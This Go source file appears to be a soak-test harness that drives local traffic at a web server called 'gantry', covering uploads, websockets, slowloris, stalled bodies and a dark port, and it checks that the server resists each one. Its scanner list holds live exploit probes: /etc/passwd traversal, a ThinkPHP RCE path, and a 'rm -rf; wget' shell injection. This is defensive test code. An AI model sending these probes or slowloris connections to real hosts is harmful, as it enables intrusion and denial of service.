package main

import (
	"bufio"
	"bytes"
	"context"
	crand "crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

var (
	transportsMu sync.Mutex
	transports   []*http.Transport
)

func client(timeout time.Duration) *http.Client {
	tr := &http.Transport{MaxIdleConnsPerHost: 8, DisableCompression: true}
	transportsMu.Lock()
	transports = append(transports, tr)
	transportsMu.Unlock()
	return &http.Client{Transport: tr, Timeout: timeout,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

// closeIdle closes the drivers' kept-alive connections before a sample.
func closeIdle() {
	transportsMu.Lock()
	defer transportsMu.Unlock()
	for _, tr := range transports {
		tr.CloseIdleConnections()
	}
}

func randN(n int) int { return rand.IntN(n) }

func randomBytes(n int) []byte {
	b := make([]byte, n)
	crand.Read(b)
	return b
}

// bodySize is 1 KB to 5 MB, most of them small as real uploads are.
func bodySize() int {
	if randN(10) < 7 {
		return 1<<10 + randN(63<<10)
	}
	return 64<<10 + randN(5<<20-64<<10)
}

type driver struct {
	name    string
	workers int
	once    func(ctx context.Context)
}

func drivers(g *gantry, t *tally) []driver {
	base := fmt.Sprintf("http://127.0.0.1:%d", g.site.port)
	addr := fmt.Sprintf("127.0.0.1:%d", g.site.port)
	c := client(60 * time.Second)
	return []driver{
		{"static", 2, func(ctx context.Context) { static(ctx, c, base, g.site.statics, t) }},
		{"php", 2, func(ctx context.Context) { upload(ctx, c, base+"/app.php", "php", "fastcgi", bodySize(), t) }},
		{"wsgi", 2, func(ctx context.Context) { upload(ctx, c, base+"/app/echo", "wsgi", "wsgi", bodySize(), t) }},
		{"cgi", 1, func(ctx context.Context) {
			upload(ctx, c, base+"/cgi-bin/check.cgi", "cgi", "", 1<<10+randN(255<<10), t)
		}},
		{"websocket", 1, func(ctx context.Context) { websocket(addr, t) }},
		{"scanner", 1, func(ctx context.Context) { scanner(ctx, client(30*time.Second), base, t) }},
		{"slowloris", 1, func(ctx context.Context) { slowloris(ctx, addr, t) }},
		{"slow body", 1, func(ctx context.Context) { slowBody(ctx, addr, t) }},
		{"dark port", 1, func(ctx context.Context) { darkFlood(ctx, fmt.Sprintf("127.0.0.1:%d", g.site.dark), t) }},
	}
}

func static(ctx context.Context, c *http.Client, base string, files map[string]string, t *tally) {
	for path, sum := range files {
		resp, err := c.Get(base + path)
		if err != nil {
			if ctx.Err() == nil {
				t.add("static GET", defect, err.Error())
			}
			return
		}
		b, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		h := sha256.Sum256(b)
		switch {
		case err != nil:
			t.add("static GET", defect, "reading the body: "+err.Error())
		case resp.StatusCode != 200:
			t.add("static GET", defect, resp.Status)
		case hex.EncodeToString(h[:]) != sum:
			t.addMismatch("static GET", path)
		default:
			t.add("static GET", ok, "")
		}
		return
	}
}

// onlyReader hides a body's length, so that the request goes out chunked.
type onlyReader struct{ io.Reader }

// upload POSTs a body with its checksum; the app verifies it and echoes its own.
func upload(ctx context.Context, c *http.Client, url, class, pool string, size int, t *tally) {
	body := randomBytes(size)
	h := sha256.Sum256(body)
	sum := hex.EncodeToString(h[:])
	chunked := randN(2) == 0
	var rd io.Reader = bytes.NewReader(body)
	if chunked {
		rd = onlyReader{rd}
		class += " POST chunked"
	} else {
		class += " POST"
	}
	req, _ := http.NewRequestWithContext(context.WithoutCancel(ctx), "POST", url, rd)
	req.Header.Set("X-Sum", sum)
	req.Header.Set("Content-Type", "application/octet-stream")
	start := time.Now()
	resp, err := c.Do(req)
	var got []byte
	if err == nil {
		got, err = io.ReadAll(resp.Body)
		resp.Body.Close()
	}
	end := time.Now()
	killed := pool != "" && t.killedDuring(pool, start, end)
	switch {
	case err != nil && killed:
		t.add(class, expected, "connection cut: in flight on a killed worker")
	case err != nil:
		t.add(class, defect, fmt.Sprintf("%v (from %s to %s; %s)", err, start.Format("15:04:05.000"), end.Format("15:04:05.000"), t.lastKill(pool)))
	case resp.StatusCode == 502 && killed:
		t.add(class, expected, "502: in flight on a killed worker")
	case resp.StatusCode == 422:
		t.addMismatch(class, fmt.Sprintf("the app saw a different body (%d bytes sent): %s", size, got))
	case resp.StatusCode != 200:
		t.add(class, defect, fmt.Sprintf("%s (%d bytes sent, from %s to %s; %s): %.200s", resp.Status, size,
			start.Format("15:04:05.000"), end.Format("15:04:05.000"), t.lastKill(pool), strings.TrimSpace(string(got))))
	case string(got) != fmt.Sprintf("%s %d", sum, size):
		t.addMismatch(class, fmt.Sprintf("echo %.80q for %d bytes", got, size))
	default:
		t.add(class, ok, "")
	}
}

func websocket(addr string, t *tally) {
	n, err := wsRoundTrip(addr, 20)
	switch {
	case errors.Is(err, errMismatch):
		t.addMismatch("websocket echo", fmt.Sprintf("after %d messages", n))
	case err != nil:
		t.add("websocket echo", defect, err.Error())
	default:
		t.add("websocket echo", ok, "")
	}
}

var exploitPaths = []string{
	"/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/phpmyadmin/index.php",
	"/cgi-bin/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/cgi-bin/%%32%65%%32%65/etc/passwd",
	"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
	"/shell?cd+/tmp;rm+-rf+*;wget+http://0.0.0.0/x", "/boaform/admin/formLogin", "/HNAP1/",
	"/app/..;/..;/etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
}

// scanner sends what scanners send: exploit paths, then a burst of 404s. Every
// answer must be a 4xx; gantry must neither fail nor let one through.
func scanner(ctx context.Context, c *http.Client, base string, t *tally) {
	paths := append([]string(nil), exploitPaths...)
	for i := 0; i < 20; i++ {
		paths = append(paths, fmt.Sprintf("/nope-%d/%x.html", randN(1000), randN(1<<30)))
	}
	for _, p := range paths {
		if ctx.Err() != nil {
			return
		}
		req, err := http.NewRequest("GET", base+p, nil)
		if err != nil {
			continue
		}
		req.Header.Set("User-Agent", "Mozilla/5.0 zgrab/0.x")
		resp, err := c.Do(req)
		if err != nil {
			t.add("scanner", defect, err.Error())
			continue
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode >= 400 && resp.StatusCode < 500 {
			t.add("scanner", ok, "")
		} else {
			t.add("scanner", defect, fmt.Sprintf("%s for %s", resp.Status, p))
		}
	}
}

// slowloris opens connections that send a header line a second and never end
// the head: gantry must close them once read_header_timeout (5s) passes.
func slowloris(ctx context.Context, addr string, t *tally) {
	var wg sync.WaitGroup
	for i := 0; i < 10; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.DialTimeout("tcp", addr, 5*time.Second)
			if err != nil {
				t.add("slowloris", defect, "dial: "+err.Error())
				return
			}
			defer c.Close()
			start := time.Now()
			if _, err := io.WriteString(c, "GET / HTTP/1.1\r\nHost: soak\r\n"); err != nil {
				t.add("slowloris", defect, err.Error())
				return
			}
			for time.Since(start) < 20*time.Second {
				c.SetReadDeadline(time.Now().Add(time.Second))
				var b [512]byte
				n, err := c.Read(b[:])
				if n > 0 || (err != nil && !isTimeout(err)) {
					if since := time.Since(start); since < 4*time.Second {
						t.add("slowloris", defect, fmt.Sprintf("closed after %s, before read_header_timeout", since.Round(time.Millisecond)))
					} else {
						t.add("slowloris", ok, "closed by gantry")
					}
					return
				}
				if _, err := fmt.Fprintf(c, "X-Pad-%d: %d\r\n", randN(1000), randN(1000)); err != nil {
					t.add("slowloris", ok, "closed by gantry")
					return
				}
			}
			t.add("slowloris", defect, "still open 20s after the first byte (read_header_timeout is 5s)")
		}()
	}
	wg.Wait()
}

// slowBody trickles a body: one that arrives whole, slowly, must be served with
// the right checksum; one that stalls half-way must be cut by read_timeout (20s).
func slowBody(ctx context.Context, addr string, t *tally) {
	body := randomBytes(8 << 10)
	h := sha256.Sum256(body)
	sum := hex.EncodeToString(h[:])
	stall := randN(3) == 0
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		t.add("slow body", defect, "dial: "+err.Error())
		return
	}
	defer c.Close()
	path := []string{"/app/echo", "/app.php", "/cgi-bin/check.cgi"}[randN(3)]
	fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: soak\r\nX-Sum: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n", path, sum, len(body))
	parts := 8
	if stall {
		parts = 4
	}
	for i := 0; i < parts; i++ {
		if _, err := c.Write(body[i*1024 : (i+1)*1024]); err != nil {
			t.add("slow body", defect, "write: "+err.Error())
			return
		}
		time.Sleep(700 * time.Millisecond)
	}
	start := time.Now()
	c.SetReadDeadline(time.Now().Add(40 * time.Second))
	resp, err := http.ReadResponse(bufioReader(c), nil)
	class := "slow body " + path
	if stall {
		class = "stalled body " + path
		switch {
		case err != nil && isTimeout(err):
			t.add(class, defect, "not cut 40s after it stalled (read_timeout is 20s)")
		case err != nil:
			t.add(class, ok, "connection closed")
		case resp.StatusCode == 408 || resp.StatusCode == 400:
			t.add(class, ok, resp.Status)
		default:
			t.add(class, defect, fmt.Sprintf("%s after %s", resp.Status, time.Since(start).Round(time.Millisecond)))
		}
		return
	}
	if err != nil {
		t.add(class, defect, err.Error())
		return
	}
	got, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	switch {
	case resp.StatusCode == 422 || (resp.StatusCode == 200 && string(got) != fmt.Sprintf("%s %d", sum, len(body))):
		t.addMismatch(class, fmt.Sprintf("%.80q", got))
	case resp.StatusCode != 200:
		t.add(class, defect, resp.Status)
	default:
		t.add(class, ok, "")
	}
}

// darkFlood connects to the dark port and sends junk: it must never answer.
func darkFlood(ctx context.Context, addr string, t *tally) {
	for i := 0; i < 20 && ctx.Err() == nil; i++ {
		c, err := net.DialTimeout("tcp", addr, 5*time.Second)
		if err != nil {
			t.add("dark port", defect, "dial: "+err.Error())
			continue
		}
		c.Write([]byte(strings.Repeat("\x16\x03\x01 junk ", 1+randN(50))))
		c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		var b [64]byte
		n, err := c.Read(b[:])
		c.Close()
		if n > 0 {
			t.add("dark port", defect, fmt.Sprintf("answered %q", b[:n]))
		} else {
			_ = err // a timeout, or the listener closing: both say nothing
			t.add("dark port", ok, "")
		}
	}
}

func bufioReader(c net.Conn) *bufio.Reader { return bufio.NewReader(c) }

func isTimeout(err error) bool {
	var ne net.Error
	return errors.As(err, &ne) && ne.Timeout()
}
